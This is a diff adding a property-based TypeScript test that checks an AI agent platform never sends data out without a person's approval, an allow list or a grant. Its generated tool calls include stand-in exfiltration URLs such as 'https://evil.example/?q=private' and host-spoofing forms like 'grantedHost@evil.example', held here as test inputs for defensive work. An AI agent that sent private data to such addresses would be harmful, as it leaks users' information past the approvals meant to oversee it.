@@ -1,0 +1,116 @@
+import { createHash } from 'node:crypto'
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { isProblemError } from '../../base/errors.ts'
+import type { JsonObject } from '../../base/json.ts'
+import type { ToolCall } from '../../domain/events.ts'
+import type { AgentHarness } from '../../testing/agent-harness.ts'
+import { type CrashPoint, workWithAnswers } from '../../testing/crash-injection.ts'
+import {
+  createEgressFixture,
+  errandTask,
+  grantedHost,
+  grantUses,
+  type TurnStart,
+} from '../../testing/egress-fixture.ts'
+import { egressBreaches } from '../../testing/egress-oracle.ts'
+import { answerApproval } from '../approvals/answer-approval.ts'
+
+const sha256 = (data: string | Uint8Array) => createHash('sha256').update(data).digest('hex')
+const call = (name: string, input: JsonObject) => ({ name, input })
+type Call = Omit<ToolCall, 'id'>
+
+const typedAddress = 'https://typed.example/page'
+const address = fc.constantFrom(
+  ...['https://evil.example/?q=private', 'https://docs.example.org.evil.example/', typedAddress],
+  ...['https://docs.example.org/a', 'https://wiki.team.example/b', 'https://team.example/'],
+  ...[`https://${grantedHost}/?q=private`, `https://${grantedHost}@evil.example/`],
+  ...['https://docs.example.org:8443/', `${typedAddress}?q=private`, 'https://typed.example/'],
+)
+const anyCall: fc.Arbitrary<Call> = fc.oneof(
+  { weight: 4, arbitrary: address.map((url) => call('web_fetch', { url })) },
+  {
+    weight: 2,
+    arbitrary: fc
+      .constantFrom('github list_pulls', 'github create_issue', 'wiki constructor')
+      .map((words) => {
+        const [connector = '', tool = ''] = words.split(' ')
+        return call('execute_connector_tool', { connector, tool, input: { a: 1 } })
+      }),
+  },
+  fc
+    .constantFrom('house', 'foreign', 'errand')
+    .map((name) => call('use_skill', { name, task: errandTask })),
+)
+const turns = fc.array(
+  fc.record({
+    by: fc.constantFrom<TurnStart>('person', 'person', 'webhook', 'cron'),
+    typed: fc.boolean(),
+    calls: fc.array(anyCall, { minLength: 1, maxLength: 4 }),
+  }),
+  { minLength: 1, maxLength: 3 },
+)
+type Turn = typeof turns extends fc.Arbitrary<infer Value> ? Value : never
+const crashPoints: fc.Arbitrary<CrashPoint[]> = fc.array(
+  fc.record({
+    at: fc.integer({ min: 1, max: 60 }),
+    when: fc.constantFrom('before' as const, 'after' as const),
+  }),
+  { maxLength: 2 },
+)
+
+async function play(
+  plan: Turn,
+  { crashes, said }: { crashes: readonly CrashPoint[]; said: Iterator<boolean> },
+) {
+  const fixture = await createEgressFixture(sha256)
+  for (const { by, typed, calls } of plan) {
+    fixture.plan.calls = calls
+    const run = await fixture.start(typed ? `Read ${typedAddress} now` : 'Go.', by)
+    const answer = (one: AgentHarness) => answerPending(one, said)
+    await workWithAnswers(fixture.harness, run, { crashPoints: crashes, answer })
+  }
+  return { log: await fixture.harness.log(), sent: fixture.sent, harness: fixture.harness }
+}
+
+async function answerPending(
+  { tenant, principal, clock }: AgentHarness,
+  said: Iterator<boolean>,
+): Promise<void> {
+  const { items } = await tenant.approvals.list({ status: 'pending' }, { limit: 50 })
+  for (const { id } of items) {
+    const answer = { id, approved: said.next().value === true, note: '', now: clock.now() }
+    await answerApproval(tenant, principal, answer).catch((error: unknown) => {
+      if (!isProblemError(error)) throw error
+    })
+  }
+}
+
+describe('the boundary of information flow', () => {
+  it('E6, E8: no conversation sends what it knows without a person, a list or a grant', async () => {
+    const seen = new Set<string>()
+    const answers = fc.infiniteStream(fc.boolean())
+    await fc.assert(
+      fc.asyncProperty(turns, crashPoints, answers, async (plan, crashes, said) => {
+        const { log, sent, harness } = await play(plan, { crashes, said })
+        expect(egressBreaches(log, sent)).toEqual([])
+        const { items } = await harness.tenant.grants.list({}, { limit: 10 })
+        expect(items[0]?.uses).toBeLessThanOrEqual(grantUses)
+        for (const { destination } of sent) seen.add(destination)
+        for (const { event } of log) {
+          seen.add(event.type)
+          if (event.type === 'tool-completed' && event.outcome.status !== 'ok')
+            seen.add(event.outcome.problem.code)
+        }
+      }),
+      { numRuns: 300 },
+    )
+    const expected = [
+      ...['https://evil.example/?q=private', typedAddress, `https://${grantedHost}/?q=private`],
+      ...['https://docs.example.org/a', 'https://errand.example/?q=private', 'connector:wiki'],
+      ...['connector:github', 'grant-used', 'approval-required', 'fork-started', 'run-resumed'],
+      ...['egress.not-listed', 'approval.denied'],
+    ]
+    expect(expected.filter((one) => !seen.has(one))).toEqual([])
+  }, 120_000)
+})
